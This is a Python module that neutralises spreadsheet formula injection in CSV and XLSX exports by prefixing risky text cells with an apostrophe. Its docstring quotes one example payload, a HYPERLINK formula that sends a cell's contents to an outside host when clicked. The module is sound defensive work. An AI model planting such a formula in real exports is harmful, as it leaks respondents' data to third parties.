"""Files that a spreadsheet program may open (CSV and XLSX): one rule for every cell.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula
by Excel, LibreOffice and Google Sheets: a roster name ``=HYPERLINK("http://x/?"&A1,"x")`` in the
invitations CSV (which holds every respondent's link) would send a link out when clicked. Such a
text is written with a leading apostrophe, OWASP's rule for CSV injection; the spreadsheet shows
the text as it was. Numbers (``-8.33`` as a number, or written as one) are left as they are, so
that the results stay numbers for analysts.
"""
from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value):
    """``value`` as a spreadsheet should receive it: a text that would start a formula gets a
    leading apostrophe; anything else (numbers, None, plain text) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) \
            and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_text(header: Iterable, rows: Iterable[Iterable], lineterminator: str = "\n") -> str:
    """A CSV with a header row, every cell through safe_cell."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=lineterminator)
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return out.getvalue()


def xlsx_bytes(header: Iterable, rows: Iterable[Iterable], title: str = "data",
               notes: Iterable[Iterable] | None = None, text_columns: bool = False) -> bytes:
    """An XLSX workbook whose first sheet is ``header`` then ``rows``, every cell through
    safe_cell (as csv_text), and, when ``notes`` are given, a second sheet of explanations
    (importers read the first sheet only). Text stays text: a code such as ``0812`` or
    ``3171010001`` is written as a string, never turned into a number. With ``text_columns``
    the header's columns are formatted as text, so that codes typed into a template keep their
    leading zeros."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title[:31]
    header = [safe_cell(h) for h in header]
    sheet.append(header)
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    sheet.freeze_panes = "A2"
    for row in rows:
        sheet.append([safe_cell(value) for value in row])
    for column_cells in sheet.iter_cols(min_row=1, max_row=1):
        letter = column_cells[0].column_letter
        sheet.column_dimensions[letter].width = max(12, len(str(column_cells[0].value)) + 4)
        if text_columns:
            sheet.column_dimensions[letter].number_format = "@"
    if notes is not None:
        extra = workbook.create_sheet("info")
        for row in notes:
            extra.append([safe_cell(value) for value in row])
        extra.column_dimensions["A"].width = 18
        extra.column_dimensions["B"].width = 90
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
